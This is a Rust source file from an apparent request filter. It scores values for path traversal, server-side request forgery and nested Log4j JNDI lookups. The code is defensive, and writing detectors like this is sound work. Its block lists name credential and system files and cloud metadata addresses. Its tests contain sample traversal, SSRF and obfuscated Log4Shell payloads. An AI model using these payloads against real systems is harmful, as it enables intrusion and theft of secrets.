//! Whether a request reaches where it should not: out of a folder (traversal), to an inner address
//! (request forgery), or through a Log4j lookup.

use crate::access::decode::Decoded;
use crate::access::sql::CERTAIN;
use crate::signs::scan::{cut_at, has, rest};

const LIKELY: u32 = 3;

/// How many nested lookups of `${…}` are resolved.
pub const LOOKUPS_MAX: usize = 32;

/// Files that no request has business with.
const FILES: &[&[u8]] = &[
    b"etc/passwd",
    b"etc/shadow",
    b"etc/hosts",
    b"etc/group",
    b"proc/self/",
    b"proc/version",
    b"win.ini",
    b"boot.ini",
    b"system32",
    b"web.config",
    b"web-inf/",
    b".ssh/",
    b"id_rsa",
    b"wp-config",
    b".htpasswd",
    b"etc/issue",
    b"windows/system",
    b".aws/credentials",
    b"var/log/",
];

/// How much a decoded value climbs out of its folder.
pub(crate) fn score_traversal(value: &Decoded, is_path: bool, was_encoded: bool) -> u32 {
    let text = &value.text;
    let names_file = FILES.iter().any(|file| has(text, file));
    let (mut n_up, mut depth, mut lowest) = (0_u32, 0_i32, 0_i32);
    for part in text.split(|byte| matches!(byte, b'/' | b'\\')) {
        match part {
            b".." | b"...." | b"..;" => {
                n_up += 1;
                depth -= 1;
            }
            b"" | b"." => {}
            _ => depth += 1,
        }
        lowest = lowest.min(depth);
    }
    let is_rooted =
        text.first() == Some(&b'/') || text.get(1) == Some(&b':') || has(text, b"file:");
    let hidden = was_encoded && (value.is_nested || value.is_overlong || is_path);
    match n_up {
        0 if names_file && !is_path && is_rooted => CERTAIN,
        0 if value.is_overlong => LIKELY,
        0 if value.has_zero => LIKELY,
        0 => 0,
        _ if names_file || hidden => CERTAIN,
        1 if is_path => {
            if lowest < 0 {
                LIKELY
            } else {
                0
            }
        }
        1 => LIKELY,
        // A crawler that resolves links badly climbs within the site; an attack climbs above it.
        _ if !is_path || lowest < 0 => CERTAIN,
        _ => LIKELY,
    }
}

/// How much a parameter's value makes the server ask an inner address.  `name` is the parameter's.
pub(crate) fn score_forgery(name: &[u8], value: &[u8]) -> u32 {
    const SCHEMES: &[&[u8]] = &[
        b"gopher://",
        b"dict://",
        b"file://",
        b"php://",
        b"phar://",
        b"expect://",
        b"ldap://",
        b"tftp://",
        b"jar:http",
        b"netdoc:",
        b"zip://",
        b"glob://",
    ];
    const BACK: &[&[u8]] =
        &[b"redirect", b"return", b"callback", b"next", b"continue", b"ref", b"origin", b"state"];
    if SCHEMES.iter().any(|scheme| value.starts_with(scheme)) {
        return CERTAIN;
    }
    let Some((scheme, behind)) = cut_at(value, b"//") else { return 0 };
    if !matches!(scheme, b"http:" | b"https:" | b"ftp:" | b"") {
        return 0;
    }
    let end = behind.iter().position(|byte| matches!(byte, b'/' | b'?' | b'#'));
    let host = behind.get(..end.unwrap_or(behind.len())).unwrap_or(behind);
    let host = host.rsplit(|byte| *byte == b'@').next().unwrap_or(host);
    if host.starts_with(b"169.254.169.254")
        || has(host, b"metadata.google")
        || host.starts_with(b"[fd00:ec2::254]")
        || host.starts_with(b"100.100.100.200")
    {
        return CERTAIN;
    }
    let is_odd_number = host.starts_with(b"0x")
        || host.len() >= 8 && host.iter().all(u8::is_ascii_digit)
        || host == b"0";
    let is_inner = host.starts_with(b"127.")
        || host.starts_with(b"localhost")
        || host.starts_with(b"0.0.0.0")
        || host.starts_with(b"[::1]")
        || host.starts_with(b"[::]")
        || host.starts_with(b"10.")
        || host.starts_with(b"192.168.");
    // Sign-in flows lead back to a developer's own machine all the time.
    let leads_back = BACK.iter().any(|part| has(&name.to_ascii_lowercase(), part));
    match (is_odd_number, is_inner, leads_back) {
        (true, _, _) | (_, true, false) => CERTAIN,
        (false, true, true) => LIKELY,
        (false, false, _) => 0,
    }
}

/// How much a decoded value looks up something through Log4j, however it is nested
/// (`${${lower:j}ndi:…}`).
pub(crate) fn score_lookup(value: &[u8]) -> u32 {
    if !has(value, b"${") {
        return 0;
    }
    let mut text = value.to_vec();
    for _ in 0..LOOKUPS_MAX {
        if has(&text, b"${jndi:") {
            return CERTAIN;
        }
        let Some(open) = memchr::memmem::rfind(&text, b"${") else { return 0 };
        let Some(n) = memchr::memchr(b'}', rest(&text, open)) else { return 0 };
        let inner = text.get(open + 2..open + n).unwrap_or_default();
        let resolved = match memchr::memmem::find(inner, b":-") {
            Some(at) => rest(inner, at + 2),
            None => memchr::memchr(b':', inner).map_or(inner, |at| rest(inner, at + 1)),
        };
        let resolved = resolved.to_vec();
        text.splice(open..=open + n, resolved);
    }
    LIKELY
}

#[cfg(test)]
mod tests {
    use proptest::prelude::*;

    use super::*;

    fn traversal(raw: &str, is_path: bool) -> u32 {
        let mut value = Decoded::default();
        value.read(raw.as_bytes());
        score_traversal(&value, is_path, raw.contains('%'))
    }

    #[test]
    fn climbing_out_is_found_and_bad_links_are_not() {
        assert!(traversal("/../../../../etc/passwd", true) >= CERTAIN);
        assert!(traversal("/a/%2e%2e/%2e%2e/x", true) >= CERTAIN);
        assert!(traversal("..%252f..%252fx", false) >= CERTAIN);
        assert!(traversal("/a/..%c0%af..%c0%afx", true) >= CERTAIN);
        assert!(traversal("../../../x", false) >= CERTAIN);
        assert!(traversal("/etc/passwd", false) >= CERTAIN);
        assert!(traversal("..\\..\\windows\\win.ini", false) >= CERTAIN);
        assert!(traversal("....//....//etc/passwd", false) >= CERTAIN);
        for good in ["/a/b/../c.css", "/a/b/c/../../d", "/a..b/c", "/v1...v2", "/docs/etc/"] {
            assert!(traversal(good, true) < CERTAIN, "{good}");
        }
        for good in ["a...b", "1..2", "docs/readme.txt", "/var/www"] {
            assert!(traversal(good, false) < CERTAIN, "{good}");
        }
    }

    #[test]
    fn an_inner_address_is_found_and_a_way_back_is_not() {
        for bad in [
            "http://169.254.169.254/latest/meta-data/",
            "http://127.0.0.1:6379/",
            "http://x@localhost/admin",
            "http://2130706433/",
            "http://0x7f000001/",
            "gopher://127.0.0.1:25/",
            "file:///etc/passwd",
        ] {
            assert!(score_forgery(b"url", bad.as_bytes()) >= CERTAIN, "{bad}");
        }
        assert!(score_forgery(b"redirect_uri", b"http://localhost:3000/callback") < CERTAIN);
        assert!(score_forgery(b"url", b"https://example.org/a") < CERTAIN);
        assert!(score_forgery(b"q", b"10. december") < CERTAIN);
    }

    #[test]
    fn a_lookup_is_found_however_it_is_nested() {
        for bad in [
            "${jndi:ldap://x.example/a}",
            "${${lower:j}ndi:ldap://x/a}",
            "${${::-j}${::-n}${::-d}${::-i}:rmi://x/a}",
            "${${env:x:-j}ndi${env:x:-:}${env:x:-l}dap://x/a}",
        ] {
            assert!(score_lookup(bad.as_bytes()) >= CERTAIN, "{bad}");
        }
        assert_eq!(score_lookup(b"${name} and ${other}"), 0);
        assert_eq!(score_lookup("${".repeat(LOOKUPS_MAX + 9).as_bytes()), 0);
        let deep = "${a:".repeat(LOOKUPS_MAX + 9) + &"}".repeat(LOOKUPS_MAX + 9);
        assert_eq!(score_lookup(deep.as_bytes()), LIKELY);
    }

    proptest! {
        #[test]
        fn nothing_panics(value in "[ -~]{0,60}") {
            let bytes = value.as_bytes();
            let _ = (score_forgery(bytes, bytes), score_lookup(bytes));
            let _ = traversal(&value, true);
        }
    }
}
